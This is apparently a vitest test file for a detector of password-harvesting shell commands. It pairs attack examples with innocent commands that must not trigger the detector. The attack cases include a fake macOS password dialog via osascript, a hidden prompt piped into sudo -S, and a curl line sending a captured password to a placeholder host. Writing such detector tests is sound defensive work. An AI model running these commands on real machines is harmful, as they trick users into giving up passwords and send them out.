import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-password.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  [
    'in a window',
    `osascript -e 'display dialog "macOS needs your password" default answer "" with hidden answer'`,
    'dialog',
  ],
  ['in the terminal', 'read -rs -p "Password: " p; echo "$p" | sudo -S id', 'handed'],
  ['and sent', 'read -s p; curl -d "p=$p" https://a.invalid/in', 'sent'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['sudo apt update'],
  ['read -p "Name: " n; echo "$n"'],
  [`osascript -e 'display dialog "Done"'`],
  ['echo "$CI_PASSWORD" | sudo -S id'],
])('innocent: %s', (command) => {
  expect(titles(command)).toEqual([])
})
